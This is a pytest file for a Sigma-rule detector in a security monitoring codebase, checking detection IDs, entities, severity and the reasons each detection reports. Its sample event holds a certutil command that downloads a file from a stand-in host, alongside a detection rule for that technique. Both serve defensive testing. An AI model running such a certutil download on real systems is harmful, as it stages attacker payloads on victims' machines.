"""What a detection of a Sigma rule says: id, device, severity, and why in words."""

from __future__ import annotations

from pathlib import Path

import pytest

from detectors.sigma import SigmaDetector, load_rules
from detectors.sigma.reasons import MAX_VALUE, SAID
from soc_core import i18n
from soc_core.model.detection import Entity, Severity, make_detection_id
from soc_core.model.event import Event
from tests.detectors.sigma.base import ID, WINDOWS, load_text, rule_text, say

EVENT: Event = {
    "@timestamp": "2026-11-20T02:00:00.000000Z",
    "event.id": "20261120-a",
    "organization.id": "o",
    "edusoc.zone": "lan",
    "event.dataset": "windows.sysmon",
    "event.code": "1",
    "host.name": "PC1",
    "process.executable": r"C:\Windows\System32\certutil.exe",
    "process.command_line": "certutil -urlcache http://x/ a.exe",
    "winlog.event_data.User": "SCHOOL\\ann",
}
DETECTION = r"""
tool: {Image|endswith: '\certutil.exe'}
wants:
  - CommandLine|contains: ['/split', 'urlcache']
  - User|startswith: 'NT '
filter: {ParentImage|endswith: '\good.exe'}
condition: tool and wants and not filter
"""


def test_detection_is_whole(tmp_path: Path) -> None:
    rules = load_text(
        tmp_path, rule_text(DETECTION, WINDOWS, more="tags: [attack.t1105, attack.command-and-control]")
    )
    other = EVENT | {"event.code": "11"}
    (found,) = SigmaDetector(rules).detect([other, EVENT, other])
    entity = Entity("host", "PC1", "lan")
    assert found.id == make_detection_id(ID, "o", entity, "20261120-a")
    assert (found.rule_id, found.rule_kind, found.kind) == (ID, "sigma", ID)
    assert (found.entity, found.organization_id, found.severity) == (entity, "o", Severity.HIGH)
    assert (found.first_seen, found.last_seen) == (EVENT["@timestamp"], EVENT["@timestamp"])
    assert (found.evidence, found.count, found.techniques) == (("20261120-a",), 1, ("T1105",))
    assert [say(reason.key, **reason.values) for reason in found.reasons] == [
        r"Program: C:\Windows\System32\certutil.exe",
        "Command line: certutil -urlcache http://x/ a.exe",
    ]


def test_same_events_give_the_same_detections(tmp_path: Path) -> None:
    rules = load_text(tmp_path, rule_text(DETECTION, WINDOWS))
    assert SigmaDetector(rules).detect([EVENT]) == SigmaDetector(rules).detect([dict(EVENT)])


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"source.ip": "10.0.0.1"}, ("ip", "10.0.0.1")),
        ({"host.ip": ["10.0.0.5", "10.0.0.6"]}, ("ip", "10.0.0.5")),
        ({}, ("host", "PC1")),
    ],
)
def test_entity_is_the_first_field_that_is_there(
    tmp_path: Path, fields: Event, expected: tuple[str, str]
) -> None:
    rules = load_text(tmp_path, rule_text(DETECTION, WINDOWS))
    (found,) = SigmaDetector(rules).detect([EVENT | fields])
    assert (found.entity.kind, found.entity.value) == expected


def test_long_values_are_shown_around_the_match(tmp_path: Path) -> None:
    rules = load_text(tmp_path, rule_text("s: {message|contains: needle}\ncondition: s"))
    event = EVENT | {"event.dataset": "test", "message": "a" * 5_000 + " needle " + "b" * 5_000}
    (found,) = SigmaDetector(rules).detect([event])
    (text,) = [say(reason.key, **reason.values) for reason in found.reasons]
    assert "needle" in text
    assert len(text) < MAX_VALUE + 50


@pytest.mark.parametrize(
    ("detection", "event", "text"),
    [
        ("k: [needle]\ncondition: k", {"message": "a needle"}, 'Its text holds "a needle".'),
        ("k: {'Threat Name': x}\ncondition: k", {"edusoc.extra": ["Threat Name=X"]}, "Threat Name: X"),
        ("k: {source.port|gt: 5}\ncondition: k", {"source.port": 6}, "Source port: 6"),
        ("k: {user.name|exists: true}\ncondition: k", {"user.name": "ann"}, "Account: ann"),
        ("k: {user.name|fieldref: host.name}\ncondition: k", {"user.name": "pc1"}, "Account: pc1"),
        (
            "k: {host.ip|cidr: 10.0.0.0/8}\ncondition: k",
            {"host.ip": ["::1", "10.0.0.1"]},
            "host.ip: 10.0.0.1",
        ),
    ],
)
def test_reasons_name_field_and_value(tmp_path: Path, detection: str, event: Event, text: str) -> None:
    rules = load_text(tmp_path, rule_text(detection))
    (found,) = SigmaDetector(rules).detect([EVENT | {"event.dataset": "test"} | event])
    assert [say(reason.key, **reason.values) for reason in found.reasons] == [text]


def test_what_sort_an_event_is_of_is_told_only_for_want_of_more(tmp_path: Path) -> None:
    event = EVENT | {"event.dataset": "test", "event.action": "logged-in"}
    both = rule_text("s: {event.code: 1, event.action: logged-in}\ncondition: s")
    (found,) = SigmaDetector(load_text(tmp_path, both)).detect([event])
    assert [say(reason.key, **reason.values) for reason in found.reasons] == ["Action: logged-in"]
    (found,) = SigmaDetector(load_text(tmp_path, rule_text("s: {event.code: 1}\ncondition: s"))).detect(
        [event]
    )
    assert [say(reason.key, **reason.values) for reason in found.reasons] == ["Event code: 1"]


def test_every_said_field_has_a_sentence() -> None:
    i18n.load("detectors")
    assert [
        field for field in sorted(SAID) if not i18n.known(f"detectors.sigma.saw.{field.replace('.', '_')}")
    ] == []


def test_rules_keep_their_order(tmp_path: Path) -> None:
    second = ID[:-1] + "6"
    texts = [rule_text(DETECTION, WINDOWS, identity=second), rule_text(DETECTION, WINDOWS)]
    load_text(tmp_path, *texts)
    rules = load_rules([tmp_path])
    assert [item.rule_id for item in SigmaDetector(rules).detect([EVENT])] == [second, ID]
